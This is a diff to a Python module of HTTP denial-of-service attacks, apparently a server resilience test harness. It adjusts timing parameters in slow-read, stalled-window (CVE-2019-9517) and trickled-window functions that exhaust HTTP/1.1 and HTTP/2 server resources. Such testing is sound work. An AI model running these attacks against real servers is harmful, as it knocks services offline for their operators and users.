@@ -204,7 +204,7 @@ def slow_post(target, until):
 def slow_read(target, until):
     """Large answers that are hardly read."""
     first = f"GET {target.large} HTTP/1.1\r\nHost: bench\r\n\r\n".encode()
-    return hold(http1(target, first, receive_buffer=4_096), until, 50, read=1)
+    return hold(http1(target, first, receive_buffer=4_096), until, 30, read=1)
 
 
 def pipelining(target, until):
@@ -354,14 +354,14 @@ def empty_data(target, until):
 def stalled_windows(target, until):
     """Large answers on every stream, and a window that never opens (CVE-2019-9517)."""
     first = b"".join(frames.get(stream, target.large) for stream in range(1, 200, 2))
-    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 20)
+    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 1)
 
 
 def trickled_windows(target, until):
     """Large answers, read a byte at a time."""
     first = b"".join(frames.get(stream, target.large) for stream in range(1, 40, 2))
     drip = b"".join(frames.window_update(stream, 1) for stream in range(1, 40, 2))
-    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 20, drip)
+    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 2, drip)
 
 
 ATTACKS = {
